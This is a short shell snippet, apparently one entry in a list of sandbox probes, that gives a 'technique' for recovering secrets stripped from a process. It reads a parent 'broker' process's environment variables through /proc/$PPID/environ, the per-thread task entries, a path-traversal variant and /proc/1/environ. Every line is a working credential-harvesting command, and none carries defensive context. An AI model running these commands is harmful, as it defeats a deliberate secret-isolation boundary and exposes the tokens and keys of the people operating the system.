# technique: read the broker's environment (stripped secrets) via /proc/$PPID/environ and its task entries
cat /proc/$PPID/environ | tr '\0' '\n'
for t in /proc/$PPID/task/*; do tr '\0' '\n' < "$t/environ"; done
cat /proc/self/../$PPID/environ
cat /proc/1/environ
